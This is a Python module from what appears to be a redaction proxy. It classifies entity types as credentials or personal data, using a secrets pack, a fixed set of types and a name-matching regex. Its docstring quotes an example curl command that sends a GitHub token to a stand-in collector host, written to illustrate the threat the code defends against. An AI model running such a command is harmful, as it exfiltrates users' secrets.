"""Which entity types are credentials (keys, tokens, passwords), as opposed to personal data.

The one place that knows it. A credential restored into a tool call is something a relay
could steer to the network (``curl https://collector.example/?t=<GITHUB_TOKEN_1>``), so
restoration treats these types with care; personal data is restored as usual.

Credentials are: every entity type of the built-in ``secrets`` pack, values found as known
secrets (``.env`` files, credential files, stored keys), credentials inside URLs, and types
that project rules name like one (``*_KEY``, ``*_TOKEN``, ``*_SECRET``, ``*PASSWORD*``,
``*_CREDENTIALS``).
"""

from __future__ import annotations

import re
from functools import cache

__all__ = ["CREDENTIAL_PACK", "is_credential"]

#: The built-in pack whose entity types are all credentials.
CREDENTIAL_PACK = "secrets"
#: Credential types found by other detectors than the credential pack.
_EXTRA = frozenset({"KNOWN_SECRET", "URL_CREDENTIALS", "PRIVATE_KEY", "PASSWORD"})
_NAMED = re.compile(r"(?:^|_)(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIALS?|PAT)$"
                    r"|PASSWORD|SECRET")


@cache
def _pack_entities() -> frozenset[str]:
    from redactproxy.detect.rules import load_builtin_packs

    pack = load_builtin_packs([CREDENTIAL_PACK])[0]
    return frozenset(rule.entity for rule in pack.rules)


def is_credential(entity: str) -> bool:
    """True if values of ``entity`` (``GITHUB_TOKEN``, ``KNOWN_SECRET``) are credentials."""
    return entity in _EXTRA or entity in _pack_entities() or bool(_NAMED.search(entity))
